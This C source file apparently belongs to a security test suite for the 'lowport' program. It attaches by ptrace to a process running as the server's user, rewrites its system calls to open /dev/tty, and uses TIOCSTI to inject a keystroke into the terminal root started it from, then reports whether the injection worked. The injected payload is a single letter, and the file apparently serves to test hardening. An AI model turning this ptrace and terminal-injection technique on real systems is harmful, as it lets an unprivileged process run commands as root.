/* SPDX-License-Identifier: ISC */
/*
 * An attack on the terminal that root starts lowport on.  Another process of the
 * server's user traces the first process of lowport's that it may trace, and has
 * it type there, by TIOCSTI (ioctl_tty(2)).
 */
#include <elf.h>
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#define PROCESSES 8 /* so many numbers after the helper's are tried */

enum typing { TYPING_WORKS, TYPING_FAILS, TYPING_UNTRIED = ATTEMPT_BROKEN + 1 };

static void
registers(pid_t pid, int request, struct user_regs_struct *r)
{
	struct iovec vector = {r, sizeof(*r)};

	if (ptrace(request, pid, NT_PRSTATUS, &vector) != 0)
		err(2, "registers");
}

/* The process stands at the entry of a call, and makes this one in its place. */
static void
replace_call(pid_t pid, struct user_regs_struct r, long call,
    const unsigned long arguments[3])
{
#if defined(__x86_64__)
	r.orig_rax = (unsigned long)call;
	r.rdi = arguments[0];
	r.rsi = arguments[1];
	r.rdx = arguments[2];
#elif defined(__aarch64__)
	int number = (int)call;
	struct iovec vector = {&number, sizeof(number)};

	if (ptrace(PTRACE_SETREGSET, pid, NT_ARM_SYSTEM_CALL, &vector) != 0)
		err(2, "system call");
	r.regs[0] = arguments[0];
	r.regs[1] = arguments[1];
	r.regs[2] = arguments[2];
#endif
	registers(pid, PTRACE_SETREGSET, &r);
}

/* It executes the instruction of that entry once more. */
static void
repeat_call(pid_t pid, struct user_regs_struct r)
{
#if defined(__x86_64__)
	r.rax = r.orig_rax;
	r.rip -= 2;
#elif defined(__aarch64__)
	r.pc -= 4;
#endif
	registers(pid, PTRACE_SETREGSET, &r);
}

static bool
advance_to_entry(pid_t pid)
{
	do
		if (!next_stop(pid))
			return false;
	while (stopped_at(pid).op != PTRACE_SYSCALL_INFO_ENTRY);
	return true;
}

/* Returns what the call does; the process stands at the same entry again. */
static long
make_call(pid_t pid, long call, unsigned long one, unsigned long two,
    unsigned long three)
{
	struct user_regs_struct before;
	long result;

	registers(pid, PTRACE_GETREGSET, &before);
	replace_call(pid, before, call, (unsigned long[]){one, two, three});
	if (!next_stop(pid))
		errx(2, "the process has ended");
	result = (long)stopped_at(pid).exit.rval;
	repeat_call(pid, before);
	if (!advance_to_entry(pid))
		errx(2, "the process has ended");
	return result;
}

/* Its stack has room.  If it has closed all descriptors, the terminal is there all
 * the same. */
static enum typing
type(pid_t pid)
{
	char path[] = "/dev/tty", letter = 't';
	unsigned long scratch;
	long terminal, typed;

	if (!advance_to_entry(pid))
		return TYPING_UNTRIED;
	scratch = stopped_at(pid).stack_pointer;
	copy_memory(pid, scratch, path, sizeof(path), true);
	terminal = make_call(pid, SYS_openat, (unsigned long)AT_FDCWD, scratch,
	    O_RDWR);
	copy_memory(pid, scratch, &letter, 1, true);
	typed = make_call(pid, SYS_ioctl,
	    terminal < 0 ? STDIN_FILENO : (unsigned long)terminal, TIOCSTI,
	    scratch);
	fprintf(stderr, "process %d: terminal %ld, typing %ld\n", pid, terminal,
	    typed);
	return typed == 0 ? TYPING_WORKS : TYPING_FAILS;
}

/* Returns 0 if the helper ends before. */
static pid_t
seize_first(pid_t helper)
{
	int status;
	pid_t pid;

	while (waitpid(helper, &status, WNOHANG) == 0)
		for (pid = helper + 1; pid <= helper + PROCESSES; pid++)
			if (ptrace(PTRACE_SEIZE, pid, 0,
				PTRACE_O_TRACESYSGOOD | PTRACE_O_EXITKILL) == 0)
				return pid;
	return 0;
}

static int
try_typing(char **command)
{
	pid_t helper = start(command, slow_environment()), pid;
	int status;

	become_nobody();
	pid = seize_first(helper);
	if (pid == 0 || ptrace(PTRACE_INTERRUPT, pid, 0, 0) != 0 ||
	    waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
		return TYPING_UNTRIED;
	return type(pid);
}

int
attack_type(char **command)
{
	unsigned int counts[ATTEMPT_OUTCOMES] = {0};

	attempt_all(counts, CATCHES / 4, try_typing, command);
	fprintf(stderr, "works %u, fails %u, untried %u\n",
	    counts[TYPING_WORKS], counts[TYPING_FAILS], counts[TYPING_UNTRIED]);
	printf("%s\n",
	    counts[TYPING_WORKS] > 0       ? "works"
		: counts[TYPING_FAILS] > 0 ? "fails"
					   : "untried");
	return 0;
}
